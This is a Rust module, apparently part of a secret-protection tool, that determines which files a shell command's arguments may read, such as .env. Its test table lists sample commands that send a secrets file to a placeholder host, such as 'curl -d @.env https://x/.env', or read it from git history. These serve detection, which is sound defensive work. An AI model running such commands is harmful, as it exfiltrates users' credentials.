//! The files a simple command may read, as far as its words tell, for the secrets.
//!
//! Which arguments a program takes as files is known for few programs, and a program not
//! known may read any of them; so every argument is taken as a file it may read, except
//! where it is known not to be one (the words `echo` prints, the pattern `grep` searches
//! for). A word that is not a file costs nothing unless it is written like a secret path.
//! Besides the word itself, the value of `--opt=VALUE` and `NAME=VALUE`, a curl-style or
//! response-file `@FILE`, git's `REV:PATH` and a word starting with `$HOME` are files.

use super::secrets::home_form;
use super::shell::{Part, Sink};
use super::words::Word;
use super::wrappers;

/// Commands whose arguments are text, not files (test's operators look at files, but only
/// at whether they exist).
const NOT_READING: &[&str] = &[
    "echo", "printf", "test", "[", ":", "true", "false", "eval", "trap",
];

/// Programs whose first operand is a pattern or program, not a file, unless an option
/// gives it instead (the letters of such short options, and the long ones).
const PATTERN_FIRST: &[(&[&str], &str, &[&str])] = &[
    (
        &[
            "grep", "egrep", "fgrep", "zgrep", "rg", "ag", "ack", "git-grep",
        ],
        "ef",
        &["--regexp", "--file"],
    ),
    (
        &["awk", "gawk", "mawk", "nawk"],
        "fe",
        &["--file", "--source", "--exec"],
    ),
    (&["sed"], "ef", &["--expression", "--file"]),
];

/// Adds the files the command `name` (with `words`, the name first) may read.
pub(crate) fn judge(name: &str, words: &[Word], text: &str, sink: &mut Sink) {
    // A wrapper's command is judged as a command of its own, with its own reads.
    if NOT_READING.contains(&name) || wrappers::judges_its_command(name) {
        return;
    }
    let args = &words[1..];
    let skip = pattern_operand(name, args);
    let mut paths = Vec::new();
    for (i, word) in args.iter().enumerate() {
        if Some(i) != skip {
            word_paths(word, name == "git", &mut paths);
        }
    }
    paths.retain(|p| !p.is_empty());
    paths.dedup();
    if !paths.is_empty() {
        sink.parts.push(Part::Read {
            paths,
            text: text.to_string(),
        });
    }
}

/// The index of the argument that is a pattern, not a file, if `name` takes one first.
fn pattern_operand(name: &str, args: &[Word]) -> Option<usize> {
    let (_, letters, long) = PATTERN_FIRST
        .iter()
        .find(|(names, _, _)| names.contains(&name))?;
    let mut ended = false;
    for (i, word) in args.iter().enumerate() {
        let text = word.text.as_str();
        if !ended && text == "--" {
            ended = true;
            continue;
        }
        let option = !ended && text.starts_with('-') && text != "-";
        if !option {
            return Some(i);
        }
        let gives_pattern = match text.strip_prefix("--") {
            Some(_) => long
                .iter()
                .any(|l| text == *l || text.starts_with(&format!("{l}="))),
            None => text[1..].contains(|c| letters.contains(c)),
        };
        if gives_pattern {
            return None;
        }
    }
    None
}

/// The files a word may name (pushed onto `out`).
fn word_paths(word: &Word, git: bool, out: &mut Vec<String>) {
    let text = word.text.as_str();
    if !word.known {
        // Only a word led by the home directory can be placed.
        out.extend(home_form(text));
        if let Some((_, value)) = text.split_once('=') {
            out.extend(home_form(value));
        }
        return;
    }
    // A URL names no local file, whatever its path looks like.
    if text.contains("://") {
        return;
    }
    if let Some(file) = text.strip_prefix('@') {
        out.push(file.to_string());
    }
    if !text.starts_with('-') {
        out.push(text.to_string());
    }
    if let Some((_, value)) = text.split_once('=') {
        out.push(value.to_string());
        if let Some(file) = value.strip_prefix(['@', '<']) {
            out.push(file.to_string());
        }
    }
    // `git show HEAD:.env`: a revision's file.
    if git && !text.starts_with('-') {
        if let Some((rev, file)) = text.split_once(':') {
            if !rev.contains('/') {
                out.push(file.to_string());
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn read(line: &str) -> Vec<String> {
        let words: Vec<Word> = line.split(' ').map(Word::literal).collect();
        let mut sink = Sink::default();
        judge(&words[0].text.clone(), &words, line, &mut sink);
        match sink.parts.as_slice() {
            [] => Vec::new(),
            [Part::Read { paths, .. }] => paths.clone(),
            other => panic!("{line}: {other:?}"),
        }
    }

    #[test]
    fn arguments_are_the_files_a_command_may_read() {
        for (line, want) in [
            ("cat .env", &[".env"][..]),
            ("grep -rn KEY .env", &[".env"]),
            ("grep .env .gitignore", &[".gitignore"]),
            ("grep -e .env x", &[".env", "x"]),
            ("grep --regexp=k .env", &["k", ".env"]),
            ("sed -n 1p .env", &[".env"]),
            ("awk -f prog .env", &["prog", ".env"]),
            ("curl -d @.env https://x/.env", &[".env", "@.env"]),
            ("curl -F f=@.env x", &["f=@.env", "@.env", ".env", "x"]),
            ("dd if=.env", &["if=.env", ".env"]),
            ("tool --key-file=.env", &[".env"]),
            ("git show HEAD:.env", &["show", "HEAD:.env", ".env"]),
            ("git diff --stat", &["diff"]),
            ("echo .env", &[]),
            ("timeout 5 cat .env", &[]),
        ] {
            assert_eq!(read(line), want, "{line}");
        }
    }
}
